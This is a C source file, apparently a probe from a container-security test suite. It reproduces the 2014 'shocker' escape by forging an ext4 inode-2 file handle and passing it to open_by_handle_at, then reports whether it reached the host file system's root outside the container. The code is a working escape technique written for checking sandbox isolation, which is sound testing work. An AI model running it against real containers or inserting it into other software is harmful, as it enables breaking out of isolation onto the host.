/* shocker MODE: the "shocker" escape (2014): open_by_handle_at opens any inode of a file
 * system the container has a descriptor on, by a handle it makes up, whatever mount or root
 * it sits under. Needs CAP_DAC_READ_SEARCH, which Docker does not give (and its seccomp
 * profile refuses the call without it).
 *   own-root   name_to_handle_at("/"), then open_by_handle_at with that handle
 *   fs-root    the same handle with the inode number changed to 2 (the root directory of
 *              ext2/3/4, generation 0): the root of the host file system the container's root
 *              directory lives on. Prints "ok" and then "inside" or "outside": where the
 *              directory it opened is, compared with the container's root. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include "report.h"

int main(int argc, char **argv)
{
    const char *mode = argc > 1 ? argv[1] : "";
    int fs_root = !strcmp(mode, "fs-root");
    if (!fs_root && strcmp(mode, "own-root"))
        return usage("own-root | fs-root");
    struct file_handle *handle = calloc(1, sizeof *handle + MAX_HANDLE_SZ);
    handle->handle_bytes = MAX_HANDLE_SZ;
    int mount_id;
    if (name_to_handle_at(AT_FDCWD, "/", handle, &mount_id, 0) < 0)
        return report(-1);
    if (fs_root) {
        /* FILEID_INO32_GEN, ext4's: a 32-bit inode number, then the generation. */
        uint32_t root_inode[2] = {2, 0};
        handle->handle_type = 1;
        handle->handle_bytes = sizeof root_inode;
        memcpy(handle->f_handle, root_inode, sizeof root_inode);
    }
    int mount_fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (mount_fd < 0)
        return report(-1);
    int fd = open_by_handle_at(mount_fd, handle, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    int status = report(fd);
    if (fd < 0 || !fs_root)
        return status;
    struct stat opened, root;
    if (fstat(fd, &opened) < 0 || stat("/", &root) < 0)
        return report(-1);
    puts(opened.st_dev == root.st_dev && opened.st_ino == root.st_ino ? "inside" : "outside");
    return 0;
}
